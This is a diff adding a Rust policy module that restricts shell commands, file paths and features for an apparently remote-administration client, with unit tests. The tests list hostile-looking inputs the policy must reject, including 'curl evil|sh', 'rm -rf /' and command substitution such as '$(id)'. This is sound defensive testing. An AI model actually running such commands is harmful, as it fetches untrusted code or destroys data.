@@ -0,0 +1,417 @@
+use config::{Config, File};
+use regex::Regex;
+use serde::Deserialize;
+use std::path::{Component, Path, PathBuf};
+use std::sync::OnceLock;
+
+use common::CommandPayload;
+use crate::command_handler::expand_path;
+
+// Raw policy file layout (client_policy.toml / .json / .yaml)
+#[derive(Debug, Deserialize, Default)]
+#[serde(default)]
+struct PolicyFile {
+    allowed_commands: Vec<String>,
+    denied_commands: Vec<String>,
+    allowed_paths: Vec<String>,
+    denied_paths: Vec<String>,
+    features: FeatureSwitches,
+}
+
+#[derive(Debug, Deserialize, Clone)]
+#[serde(default)]
+pub struct FeatureSwitches {
+    pub shell_exec: bool,
+    pub update_client: bool,
+    // DownloadFile, UploadFile, DownloadAndUnzip, ZipAndUpload
+    pub file_transfer: bool,
+    // WriteFile, CopyFile, MoveFile, DeleteFile
+    pub file_modify: bool,
+    // KillProcess
+    pub process_control: bool,
+    // ControlService
+    pub service_control: bool,
+}
+
+impl Default for FeatureSwitches {
+    fn default() -> Self {
+        Self {
+            shell_exec: true,
+            update_client: true,
+            file_transfer: true,
+            file_modify: true,
+            process_control: true,
+            service_control: true,
+        }
+    }
+}
+
+/// Local command policy. Deny rules always win over allow rules,
+/// an empty allow list means "everything not denied".
+/// Allowed command patterns must match a whole command (they are anchored), and every command
+/// of a chained line (`;`, `&&`, `||`, `|`, `&`) has to be allowed; denied patterns match anywhere.
+#[derive(Debug, Default)]
+pub struct Policy {
+    allowed_commands: Vec<Regex>,
+    denied_commands: Vec<Regex>,
+    allowed_paths: Vec<PathBuf>,
+    denied_paths: Vec<PathBuf>,
+    features: FeatureSwitches,
+}
+
+impl Policy {
+    /// Loads `client_policy.*` from the executable directory (or CWD in development),
+    /// or from `policy_path` when configured. A missing file means no restrictions,
+    /// an invalid file is an error so that a typo never silently disables the policy.
+    pub fn load(policy_path: Option<&str>) -> anyhow::Result<Self> {
+        let mut builder = Config::builder();
+
+        if let Some(path) = policy_path {
+            builder = builder.add_source(File::with_name(path).required(true));
+        } else {
+            let mut found = false;
+            if let Ok(exe_path) = std::env::current_exe() {
+                if let Some(exe_dir) = exe_path.parent() {
+                    for ext in ["toml", "json", "yaml"] {
+                        let candidate = exe_dir.join(format!("client_policy.{}", ext));
+                        if candidate.exists() {
+                            builder = builder.add_source(File::from(candidate));
+                            found = true;
+                            break;
+                        }
+                    }
+                }
+            }
+            if !found {
+                builder = builder.add_source(File::with_name("client_policy").required(false));
+            }
+        }
+
+        let file: PolicyFile = builder.build()?.try_deserialize()?;
+        Self::from_file(file)
+    }
+
+    fn from_file(file: PolicyFile) -> anyhow::Result<Self> {
+        let compile = |patterns: &[String], anchored: bool| -> anyhow::Result<Vec<Regex>> {
+            patterns.iter()
+                .map(|p| {
+                    let source = if anchored { format!("^(?:{})$", p) } else { p.clone() };
+                    Regex::new(&source).map_err(|e| anyhow::anyhow!("Invalid command pattern '{}': {}", p, e))
+                })
+                .collect()
+        };
+
+        Ok(Self {
+            allowed_commands: compile(&file.allowed_commands, true)?,
+            denied_commands: compile(&file.denied_commands, false)?,
+            allowed_paths: file.allowed_paths.iter().map(|p| normalize_path(Path::new(p))).collect(),
+            denied_paths: file.denied_paths.iter().map(|p| normalize_path(Path::new(p))).collect(),
+            features: file.features,
+        })
+    }
+
+    pub fn is_restricted(&self) -> bool {
+        !self.allowed_commands.is_empty()
+            || !self.denied_commands.is_empty()
+            || !self.allowed_paths.is_empty()
+            || !self.denied_paths.is_empty()
+            || !self.features.shell_exec
+            || !self.features.update_client
+            || !self.features.file_transfer
+            || !self.features.file_modify
+            || !self.features.process_control
+            || !self.features.service_control
+    }
+
+    /// Returns the reason when the command is not permitted.
+    pub fn check(&self, cmd: &CommandPayload) -> Result<(), String> {
+        match cmd {
+            CommandPayload::ShellExec { cmd, args } => {
+                self.require(self.features.shell_exec, "ShellExec")?;
+                let line = if args.is_empty() {
+                    cmd.trim().to_string()
+                } else {
+                    format!("{} {}", cmd.trim(), args.join(" "))
+                };
+                self.check_command(&line)
+            }
+            CommandPayload::ChangeDir { .. }
+            | CommandPayload::GetHardwareInfo
+            | CommandPayload::ListProcesses
+            | CommandPayload::ListServices
+            | CommandPayload::GetServiceStatus { .. } => Ok(()),
+            CommandPayload::KillProcess { .. } => self.require(self.features.process_control, "KillProcess"),
+            CommandPayload::ControlService { .. } => self.require(self.features.service_control, "ControlService"),
+            CommandPayload::ListDir { path, depth, .. } => {
+                let path = expand_path(path);
+                if depth.is_some_and(|d| d > 1) {
+                    self.check_tree(&path)
+                } else {
+                    self.check_path(&path)
+                }
+            }
+            CommandPayload::ReadFile { path } | CommandPayload::TailFile { path, .. } => self.check_path(Path::new(path)),
+            CommandPayload::CancelCommand { .. } => Ok(()),
+            CommandPayload::FindFiles(common::FindQuery { path, .. }) | CommandPayload::SearchContent(common::SearchQuery { path, .. }) => {
+                self.check_tree(&expand_path(path))
+            }
+            CommandPayload::WriteFile { path, .. } => {
+                self.require(self.features.file_modify, "File modification")?;
+                self.check_path(Path::new(path))
+            }
+            // These act on everything below a directory, so a denied prefix inside it counts too
+            CommandPayload::DeleteFile { path } => {
+                self.require(self.features.file_modify, "File modification")?;
+                self.check_tree(Path::new(path))
+            }
+            CommandPayload::CopyFile { src_path, dest_path } | CommandPayload::MoveFile { src_path, dest_path } => {
+                self.require(self.features.file_modify, "File modification")?;
+                self.check_tree(Path::new(src_path))?;
+                self.check_tree(Path::new(dest_path))
+            }
+            CommandPayload::DownloadFile { dest_path, .. } => {
+                self.require(self.features.file_transfer, "File transfer")?;
+                self.check_path(Path::new(dest_path))
+            }
+            CommandPayload::DownloadAndUnzip { dest_path, .. } => {
+                self.require(self.features.file_transfer, "File transfer")?;
+                self.check_tree(Path::new(dest_path))
+            }
+            CommandPayload::UploadFile { src_path, .. } | CommandPayload::ZipAndUpload { src_path, .. } => {
+                self.require(self.features.file_transfer, "File transfer")?;
+                self.check_tree(Path::new(src_path))
+            }
+            CommandPayload::UpdateClient { .. } => self.require(self.features.update_client, "UpdateClient"),
+        }
+    }
+
+    fn require(&self, enabled: bool, feature: &str) -> Result<(), String> {
+        if enabled {
+            Ok(())
+        } else {
+            Err(format!("{} is disabled by client policy", feature))
+        }
+    }
+
+    // The line runs through `sh -c` / `cmd /C`, so each chained command is checked on its own
+    fn check_command(&self, line: &str) -> Result<(), String> {
+        if let Some(re) = self.denied_commands.iter().find(|re| re.is_match(line)) {
+            return Err(format!("Command '{}' matches denied pattern '{}'", line, re.as_str()));
+        }
+        if self.allowed_commands.is_empty() {
+            return Ok(());
+        }
+        if line.contains('`') || line.contains("$(") {
+            return Err(format!("Command '{}' uses command substitution, which allowed patterns can't cover", line));
+        }
+        for command in command_separator_regex().split(line).map(str::trim).filter(|c| !c.is_empty()) {
+            if !self.allowed_commands.iter().any(|re| re.is_match(command)) {
+                return Err(format!("Command '{}' does not match any allowed pattern", command));
+            }
+        }
+        Ok(())
+    }
+
+    // Like check_path, for commands that also read everything below the path
+    fn check_tree(&self, path: &Path) -> Result<(), String> {
+        self.check_path(path)?;
+        let normalized = normalize_path(path);
+        if let Some(prefix) = self.denied_paths.iter().find(|p| p.starts_with(&normalized)) {
+            return Err(format!("Path '{}' contains denied prefix '{}'", normalized.display(), prefix.display()));
+        }
+        Ok(())
+    }
+
+    fn check_path(&self, path: &Path) -> Result<(), String> {
+        let normalized = normalize_path(path);
+        if let Some(prefix) = self.denied_paths.iter().find(|p| normalized.starts_with(p)) {
+            return Err(format!("Path '{}' is under denied prefix '{}'", normalized.display(), prefix.display()));
+        }
+        if !self.allowed_paths.is_empty() && !self.allowed_paths.iter().any(|p| normalized.starts_with(p)) {
+            return Err(format!("Path '{}' is not under any allowed prefix", normalized.display()));
+        }
+        Ok(())
+    }
+}
+
+fn command_separator_regex() -> &'static Regex {
+    static RE: OnceLock<Regex> = OnceLock::new();
+    RE.get_or_init(|| Regex::new(r"&&|\|\||[;|&\r\n]").unwrap())
+}
+
+/// Makes a path absolute and resolves `..` and symlinks, so that prefix checks
+/// cannot be bypassed with `/allowed/../etc/shadow` or a link into a denied tree.
+/// For paths that don't exist yet the deepest existing ancestor is resolved.
+fn normalize_path(path: &Path) -> PathBuf {
+    let absolute = if path.is_absolute() {
+        path.to_path_buf()
+    } else {
+        std::env::current_dir().unwrap_or_else(|_| PathBuf::from("/")).join(path)
+    };
+
+    let mut lexical = PathBuf::new();
+    for component in absolute.components() {
+        match component {
+            Component::ParentDir => {
+                lexical.pop();
+            }
+            Component::CurDir => {}
+            c => lexical.push(c),
+        }
+    }
+
+    let mut existing = lexical.as_path();
+    let mut rest = Vec::new();
+    loop {
+        if let Ok(resolved) = existing.canonicalize() {
+            return rest.iter().rev().fold(resolved, |acc, c| acc.join(c));
+        }
+        match (existing.parent(), existing.file_name()) {
+            (Some(parent), Some(name)) => {
+                rest.push(name.to_os_string());
+                existing = parent;
+            }
+            _ => return lexical,
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn commands(allowed: &[&str], denied: &[&str]) -> Policy {
+        Policy::from_file(PolicyFile {
+            allowed_commands: allowed.iter().map(|p| p.to_string()).collect(),
+            denied_commands: denied.iter().map(|p| p.to_string()).collect(),
+            ..Default::default()
+        })
+        .unwrap()
+    }
+
+    fn shell(line: &str) -> CommandPayload {
+        CommandPayload::ShellExec { cmd: line.to_string(), args: Vec::new() }
+    }
+
+    fn temp_dir(name: &str) -> PathBuf {
+        let dir = std::env::temp_dir().join(format!("roam-policy-{}-{}", name, uuid::Uuid::new_v4()));
+        std::fs::create_dir_all(dir.join("allowed/sub")).unwrap();
+        std::fs::create_dir_all(dir.join("other")).unwrap();
+        dir
+    }
+
+    #[test]
+    fn allowed_patterns_are_anchored() {
+        let policy = commands(&["ls", r"df -h"], &[]);
+        assert!(policy.check(&shell("ls")).is_ok());
+        assert!(policy.check(&CommandPayload::ShellExec { cmd: "df".into(), args: vec!["-h".into()] }).is_ok());
+        assert!(policy.check(&shell("ls -la")).is_err());
+        assert!(policy.check(&shell("lsblk")).is_err());
+        assert!(policy.check(&shell("curl evil")).is_err());
+    }
+
+    #[test]
+    fn chained_commands_must_all_be_allowed() {
+        let policy = commands(&["ls", r"grep \w+", r"echo .*"], &[]);
+        assert!(policy.check(&shell("ls | grep log")).is_ok());
+        assert!(policy.check(&shell("curl evil|sh; ls")).is_err());
+        assert!(policy.check(&shell("ls; rm -f x")).is_err());
+        assert!(policy.check(&shell("ls && id")).is_err());
+        assert!(policy.check(&shell("ls || id")).is_err());
+        assert!(policy.check(&shell("ls & id")).is_err());
+        assert!(policy.check(&shell("ls\nid")).is_err());
+        assert!(policy.check(&shell("echo x; id")).is_err());
+        assert!(policy.check(&shell("echo $(id)")).is_err());
+        assert!(policy.check(&shell("echo `id`")).is_err());
+    }
+
+    #[test]
+    fn denied_patterns_match_anywhere_and_win() {
+        let policy = commands(&[r"echo .*", r"rm .*"], &[r"rm\s+-rf"]);
+        assert!(policy.check(&shell("rm x")).is_ok());
+        assert!(policy.check(&shell("rm -rf /")).is_err());
+        assert!(policy.check(&shell("echo hi; rm -rf /")).is_err());
+        assert!(commands(&[], &["reboot"]).check(&shell("sudo reboot now")).is_err());
+        assert!(commands(&[], &[]).check(&shell("anything; goes")).is_ok());
+    }
+
+    #[test]
+    fn invalid_pattern_is_an_error() {
+        let file = PolicyFile { allowed_commands: vec!["(".into()], ..Default::default() };
+        assert!(Policy::from_file(file).is_err());
+    }
+
+    #[test]
+    fn features_gate_commands() {
+        let policy = Policy::from_file(PolicyFile {
+            features: FeatureSwitches { shell_exec: false, process_control: false, ..Default::default() },
+            ..Default::default()
+        })
+        .unwrap();
+        assert!(policy.is_restricted());
+        assert!(policy.check(&shell("ls")).is_err());
+        assert!(policy.check(&CommandPayload::KillProcess { pid: 1, signal: None }).is_err());
+        assert!(policy.check(&CommandPayload::ListProcesses).is_ok());
+        assert!(!Policy::default().is_restricted());
+    }
+
+    #[test]
+    fn paths_are_normalized_before_prefix_checks() {
+        let dir = temp_dir("paths");
+        let policy = Policy::from_file(PolicyFile {
+            allowed_paths: vec![dir.join("allowed").to_string_lossy().to_string()],
+            denied_paths: vec![dir.join("allowed/sub").to_string_lossy().to_string()],
+            ..Default::default()
+        })
+        .unwrap();
+        let read = |p: PathBuf| policy.check(&CommandPayload::ReadFile { path: p.to_string_lossy().to_string() });
+
+        assert!(read(dir.join("allowed/app.log")).is_ok());
+        assert!(read(dir.join("allowed/new/file.txt")).is_ok());
+        assert!(read(dir.join("other/x")).is_err());
+        assert!(read(dir.join("allowed/../other/x")).is_err());
+        assert!(read(dir.join("allowed/sub/secret")).is_err());
+        assert!(read(dir.join("allowed/./sub/../sub/secret")).is_err());
+
+        #[cfg(unix)]
+        {
+            std::os::unix::fs::symlink(dir.join("other"), dir.join("allowed/link")).unwrap();
+            assert!(read(dir.join("allowed/link/x")).is_err());
+        }
+
+        // Searching a tree that contains a denied prefix is refused as a whole
+        let search = CommandPayload::FindFiles(common::FindQuery { path: dir.join("allowed").to_string_lossy().to_string(), ..Default::default() });
+        assert!(policy.check(&search).is_err());
+        let list = |depth| CommandPayload::ListDir { path: dir.join("allowed").to_string_lossy().to_string(), depth, limit: None, cursor: None };
+        assert!(policy.check(&list(None)).is_ok());
+        assert!(policy.check(&list(Some(3))).is_err());
+
+        std::fs::remove_dir_all(&dir).unwrap();
+    }
+
+    #[test]
+    fn tree_commands_refuse_parents_of_denied_prefixes() {
+        let dir = temp_dir("tree");
+        let policy = Policy::from_file(PolicyFile {
+            denied_paths: vec![dir.join("allowed/sub").to_string_lossy().to_string()],
+            ..Default::default()
+        })
+        .unwrap();
+        let parent = dir.join("allowed").to_string_lossy().to_string();
+        let other = dir.join("other").to_string_lossy().to_string();
+
+        assert!(policy.check(&CommandPayload::DeleteFile { path: parent.clone() }).is_err());
+        assert!(policy.check(&CommandPayload::MoveFile { src_path: parent.clone(), dest_path: other.clone() }).is_err());
+        assert!(policy.check(&CommandPayload::CopyFile { src_path: parent.clone(), dest_path: other.clone() }).is_err());
+        assert!(policy.check(&CommandPayload::ZipAndUpload { src_path: parent.clone(), upload_url: "http://x".into() }).is_err());
+        assert!(policy.check(&CommandPayload::UploadFile { src_path: parent.clone(), upload_url: "http://x".into() }).is_err());
+        assert!(policy.check(&CommandPayload::DownloadAndUnzip { url: "http://x".into(), dest_path: parent.clone() }).is_err());
+
+        // Siblings of the denied prefix are still fine
+        assert!(policy.check(&CommandPayload::DeleteFile { path: other.clone() }).is_ok());
+        assert!(policy.check(&CommandPayload::ZipAndUpload { src_path: other, upload_url: "http://x".into() }).is_ok());
+        assert!(policy.check(&CommandPayload::WriteFile { path: dir.join("allowed/new.txt").to_string_lossy().to_string(), content: String::new() }).is_ok());
+
+        std::fs::remove_dir_all(&dir).unwrap();
+    }
+}